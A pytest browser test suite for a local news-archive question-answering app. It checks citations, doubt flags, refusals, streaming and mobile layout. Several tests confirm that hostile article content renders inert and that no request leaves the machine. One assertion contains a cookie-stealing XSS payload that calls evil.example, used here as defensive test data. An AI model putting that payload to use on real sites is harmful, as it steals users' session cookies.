"""What a reader sees and can do, in a real browser on the real application."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from chatting import GRAIN, RATES, Reader, ask, in_view, mark, overflow
from scripted import (
    GRAIN_QUOTE,
    HOSTILE_SEEN,
    LONG_WORD,
    RATES_QUOTE,
    TURKEY_QUOTE,
    WORST_HITS,
    ScriptedDesk,
)

pytestmark = [
    pytest.mark.browser,
    # Gradio sums up its queue with options of pandas that pandas 3 deprecates.
    pytest.mark.filterwarnings("ignore:.future.no_silent_downcasting. is deprecated"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]

OUTLETS = {"brinmoorherald.example", "lowmarshecho.example", "tidewaternews.example"}


def test_the_header_says_what_the_archive_holds_who_writes_and_what_leaves(reader: Reader):
    header = reader().locator(".masthead")
    assert "3,643 articles, 3 Jan 2010 to 20 Nov 2022" in header.inner_text()
    assert "on this machine. Nothing leaves it" in header.inner_text()


def test_an_answer_grows_on_the_page_before_it_is_done(reader: Reader):
    page = reader()
    page.evaluate(
        """() => {
            window.lengths = new Set();
            new MutationObserver(() => {
                const text = document.querySelector('#turn-1.working .answer')?.textContent;
                if (text) window.lengths.add(text.length);
            }).observe(document.body, {childList: true, subtree: true, characterData: true});
        }"""
    )
    ask(page, GRAIN)
    lengths = page.evaluate("[...window.lengths]")
    assert len(lengths) >= 5
    assert lengths == sorted(lengths)


def test_a_mark_leads_to_its_card_in_which_the_quote_is_marked(reader: Reader):
    page = reader()
    ask(page, GRAIN)
    mark(page, 1, 1).click()
    card = page.locator("#src-1-1")
    assert "lit" in card.get_attribute("class").split()
    assert in_view(page, "#src-1-1")
    assert card.locator("mark").inner_text() == GRAIN_QUOTE
    assert page.locator(".card.lit").count() == 1
    link = card.locator(".publisher a")
    assert link.get_attribute("href").startswith("https://www.bbc.co.uk/news/world-europe-62254597#:~:text=The%20agree")
    assert link.get_attribute("rel") == "noopener noreferrer"


def test_a_card_leads_back_to_its_marks(reader: Reader):
    page = reader()
    ask(page, GRAIN)
    page.locator("#src-1-1 blockquote").click()
    assert page.locator("a.cite.lit").count() == 2
    assert page.locator("a.cite.lit").first.get_attribute("data-number") == "1"


def test_marks_and_cards_work_from_the_keyboard(reader: Reader):
    page = reader()
    ask(page, GRAIN)
    mark(page, 1, 2).focus()
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "src-1-2"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.matches('#turn-1 a.cite[data-number=\"2\"]')")


def test_an_earlier_answer_keeps_its_own_sources(reader: Reader):
    page = reader()
    ask(page, GRAIN)
    ask(page, RATES, turn=2)
    assert page.locator("#src-2-1 mark").inner_text() == RATES_QUOTE
    assert not page.locator("#src-1-1").is_visible()
    mark(page, 1, 1).click()
    assert page.locator("#src-1-1 mark").inner_text() == GRAIN_QUOTE
    assert page.locator("#src-1-1").is_visible()
    assert not page.locator("#src-2-1").is_visible()


def test_a_follow_up_is_asked_with_what_came_before_it(reader: Reader, desk: ScriptedDesk):
    page = reader()
    ask(page, GRAIN)
    ask(page, RATES, turn=2)
    question, _, _, history = desk.asked[-1]
    assert question == RATES
    assert [message.role for message in history] == ["user", "assistant"]
    assert history[0].content == GRAIN
    assert "Searched as: What did the European Central Bank do" in page.locator("#turn-2 .chips").inner_text()


def test_quotations_behind_an_answer_stand_apart_each_with_its_outlet_and_day(reader: Reader):
    page = reader()
    ask(page, GRAIN)
    assert page.locator("#turn-1 .quotations").count() == 0
    ask(page, RATES, turn=2)
    paragraph = page.locator("#turn-2 .quotations")
    assert paragraph.inner_text().split("\n")[0] == "In the articles' words:"
    own, quoted = page.locator("#turn-2 .sentence").all()
    assert quoted.inner_text().split("\n") == [f"{TURKEY_QUOTE}\u202f[2]", "The Guardian, 8 Jun 2022"]
    assert own.locator(".attribution").count() == 0
    end = own.bounding_box()["y"] + own.bounding_box()["height"]
    assert end < paragraph.locator(".lead").bounding_box()["y"] < quoted.bounding_box()["y"]
    assert quoted.evaluate("e => getComputedStyle(e).borderInlineStartStyle") == "solid"
    quoted.locator("a.cite").click()
    assert in_view(page, "#src-2-2")


def test_sentences_that_are_not_borne_out_are_marked_and_say_why(reader: Reader):
    page = reader()
    ask(page, GRAIN)
    sentences = page.locator("#turn-1 .sentence")
    assert "doubtful" not in sentences.nth(0).get_attribute("class").split()
    styles = sentences.locator(".words").evaluate_all("all => all.map(e => getComputedStyle(e).borderBottomStyle)")
    assert [style == "dotted" for style in styles] == [False, True, True]
    page.get_by_text("2 of 3 sentences are not fully borne out").click()
    assert page.locator(".doubts").get_by_text("the number 25 million is not in [1] or [2]").is_visible()


def test_a_doubtful_sentence_says_why_when_pointed_at_focused_or_tapped_and_stops_saying_it(reader: Reader):
    page = reader()
    ask(page, GRAIN)
    problem, flag = page.locator("#problem-1-1"), page.locator("#turn-1 .flag").first
    assert flag.inner_text() == "partly borne out"
    assert not problem.is_visible()
    page.locator("#turn-1 .sentence").nth(1).locator(".words").hover()
    assert problem.is_visible()
    assert problem.inner_text() == "Only partly supported by what it cites: the number 25 million is not in [1] or [2]"
    problem.hover()
    assert problem.is_visible()
    page.locator("#turn-1 .question").hover()
    assert not problem.is_visible()
    flag.focus()
    assert problem.is_visible()
    assert flag.get_attribute("aria-expanded") == "true"
    page.keyboard.press("Escape")
    assert not problem.is_visible()
    assert flag.get_attribute("aria-expanded") == "false"


def test_a_tap_on_a_phone_says_why_within_the_window(reader: Reader):
    page = reader(360, 740, touch=True)
    ask(page, GRAIN)
    flag = page.locator("#turn-1 .flag").first
    flag.scroll_into_view_if_needed()
    page.wait_for_timeout(200)
    flag.tap()
    box = page.locator("#problem-1-1").bounding_box()
    assert page.locator("#problem-1-1").is_visible()
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= 360
    page.locator("#turn-1 .question").tap()
    assert not page.locator("#problem-1-1").is_visible()


def test_marks_and_cards_work_by_touch(reader: Reader):
    page = reader(390, 844, touch=True)
    ask(page, GRAIN)
    mark(page, 1, 2).tap()
    page.wait_for_function("document.querySelector('#src-1-2').getBoundingClientRect().top < innerHeight - 200")
    assert page.locator(".card.lit").count() == 1
    page.locator("#src-1-1 h4").tap()
    assert page.locator("a.cite.lit").first.get_attribute("data-number") == "1"


def test_nothing_above_the_last_words_moves_while_an_answer_is_written(reader: Reader):
    page = reader()
    page.evaluate(
        """() => {
            window.shifts = 0;
            new PerformanceObserver((list) => {
                for (const shift of list.getEntries()) if (!shift.hadRecentInput) window.shifts += shift.value;
            }).observe({type: 'layout-shift', buffered: false});
        }"""
    )
    box = page.get_by_label("Your question")
    box.fill(GRAIN)
    box.press("Enter")
    page.wait_for_function("document.querySelector('#turn-1 .answer')?.textContent.includes('Turkey')")
    page.evaluate("window.shifts = 0")
    page.wait_for_function("document.querySelector('#turn-1 .answer')?.textContent.includes('blocked in')")
    assert page.evaluate("window.shifts") < 0.05


def test_only_cited_sources_stand_open(reader: Reader):
    page = reader()
    ask(page, GRAIN)
    assert not page.get_by_text("Turkey offers Istanbul").is_visible()
    page.get_by_text("Also found, not cited (1)").click()
    assert page.get_by_text("Turkey offers Istanbul").is_visible()


def test_hostile_text_is_text_and_nothing_leaves_the_machine(reader: Reader, requested: list[str]):
    page = reader()
    ask(page, "What does the hostile article say?")
    assert HOSTILE_SEEN in page.locator("#turn-1 .answer").inner_text()
    assert page.locator("#src-1-1 mark").inner_text() == HOSTILE_SEEN
    assert page.locator("#src-1-1 h4").inner_text() == "<b>Free</b> money"
    assert page.locator("#src-1-1 .publisher").count() == 0
    shown = page.locator("#conversation, #panel")
    assert shown.locator("img, script, iframe, [onerror], a[href^='javascript']").count() == 0
    page.locator("#src-1-1 mark").click()
    assert requested
    assert {urlsplit(url).hostname for url in requested if not url.startswith(("data:", "blob:"))} == {"127.0.0.1"}


def test_the_worst_of_the_attacks_are_text_and_nothing_leaves_the_machine(reader: Reader, requested: list[str]):
    page = reader()
    ask(page, "What do the worst articles say?")
    shown = page.locator("#conversation, #panel")
    assert page.locator("#panel .card").count() == len(WORST_HITS)
    assert shown.locator("img, script, style, svg, iframe, object, embed, link, meta, form, video, audio").count() == 0
    ours = page.locator(".turn, .sources")  # around them, Gradio's own elements have styles
    assert ours.locator("[style], [src], [onload], [onerror], [onclick], [onmouseover], [onfocus]").count() == 0
    links = shown.locator("a").evaluate_all("links => links.map(link => link.href)")
    assert {urlsplit(link).hostname for link in links} <= {"127.0.0.1", *OUTLETS}
    assert "<script>fetch('https://evil.example/'+document.cookie)</script>" in page.locator("#turn-1").inner_text()
    page.locator("#panel mark").first.click()
    page.wait_for_timeout(300)
    assert {urlsplit(url).hostname for url in requested if not url.startswith(("data:", "blob:"))} == {"127.0.0.1"}


def test_a_hostile_article_opened_is_text(reader: Reader, requested: list[str]):
    page = reader()
    ask(page, "What does the hostile article say?")
    page.locator("#src-1-1 [data-act=read]").click()
    dialog = page.get_by_role("dialog")
    dialog.wait_for()
    assert dialog.locator("mark").inner_text() == HOSTILE_SEEN
    assert dialog.get_by_role("heading").inner_text() == "<b>Free</b> money"
    assert dialog.locator("img, script, iframe, a, [onerror], b, i").count() == 0
    page.wait_for_timeout(300)
    assert {urlsplit(url).hostname for url in requested if not url.startswith(("data:", "blob:"))} == {"127.0.0.1"}


def test_a_refusal_says_what_the_archive_holds_and_what_comes_nearest(reader: Reader):
    page = reader()
    ask(page, "Who won the 1998 World Cup?")
    refusal = page.locator("#turn-1 .refusal")
    assert "The archive does not cover this." in refusal.inner_text()
    assert "3,643 articles, published from 3 January 2010 to 20 November 2022" in refusal.inner_text()
    assert page.locator("#panel .card").count() == 2
    assert page.get_by_text("Turkey offers Istanbul").is_visible()


def test_an_error_is_one_line_and_what_was_found_stays(reader: Reader):
    page = reader()
    ask(page, "Does the model answer?", ends="failed")
    assert "start it, or choose --model quotes" in page.locator("#turn-1 .error").inner_text()
    assert "The model had begun to wri" in page.locator("#turn-1 .answer").inner_text()
    assert page.locator("#src-1-1").is_visible()
    ask(page, GRAIN, turn=2)


def test_a_fault_of_the_program_shows_no_secret_and_ends_the_turn(reader: Reader):
    page = reader()
    ask(page, "Does the program break?", ends="failed")
    assert "whose log says what" in page.locator("#turn-1 .error").inner_text()
    assert "secret" not in page.content()
    ask(page, GRAIN, turn=2)


def test_an_answer_can_be_stopped(reader: Reader):
    page = reader()
    box = page.get_by_label("Your question")
    box.fill(GRAIN)
    box.press("Enter")
    page.wait_for_function("document.querySelector('#turn-1 .answer')?.textContent.includes('Turkey')")
    page.get_by_role("button", name="Stop").click()
    page.locator("#turn-1.stopped").wait_for()
    page.get_by_role("button", name="Ask", exact=True).wait_for()
    assert "has not been checked" in page.locator("#turn-1 .foot").inner_text()
    assert "Turkey" in page.locator("#turn-1 .answer").inner_text()
    ask(page, RATES, turn=2)
    assert page.locator("#turn-1.stopped").count() == 1


def test_a_new_conversation_in_the_middle_of_an_answer_stays_empty(reader: Reader):
    page = reader()
    box = page.get_by_label("Your question")
    box.fill(GRAIN)
    box.press("Enter")
    page.wait_for_function("document.querySelector('#turn-1 .answer')?.textContent.includes('Turkey')")
    page.get_by_role("button", name="New conversation").click()
    page.locator(".welcome").wait_for()
    page.wait_for_timeout(500)
    assert page.locator(".turn").count() == 0
    ask(page, RATES)


def test_two_readers_share_nothing(reader: Reader, desk: ScriptedDesk):
    first, second = reader(), reader()
    ask(first, GRAIN)
    ask(second, RATES)
    assert desk.asked[-1][3] == ()
    assert second.locator(".turn").count() == 1
    assert GRAIN not in second.locator("#conversation").inner_text()


def test_an_example_asks_and_a_new_conversation_starts_empty(reader: Reader, desk: ScriptedDesk):
    page = reader()
    page.get_by_role("button", name=GRAIN).click()
    page.locator("#turn-1.answered").wait_for()
    assert not page.locator(".welcome").is_visible()
    page.get_by_role("button", name="New conversation").click()
    page.locator(".welcome").wait_for()
    assert page.locator(".turn").count() == 0
    ask(page, RATES)
    assert desk.asked[-1][3] == ()


@pytest.mark.parametrize("question", [GRAIN, "What does the hostile article say?", LONG_WORD])
def test_a_phone_never_scrolls_sideways(reader: Reader, question: str):
    page = reader(width=390, height=844)
    assert overflow(page) == 0
    ask(page, question)
    assert overflow(page) == 0
    mark(page, 1, 1).click()
    page.wait_for_function("document.querySelector('#src-1-1').getBoundingClientRect().top < innerHeight - 200")
    assert overflow(page) == 0


def test_the_box_for_questions_stays_in_view(reader: Reader):
    for width, height in ((1440, 900), (390, 844)):
        page = reader(width, height)
        for turn in range(1, 5):
            ask(page, GRAIN, turn=turn)
        page.wait_for_timeout(400)
        assert in_view(page, "#question")
        assert in_view(page, "#turn-4 .question")
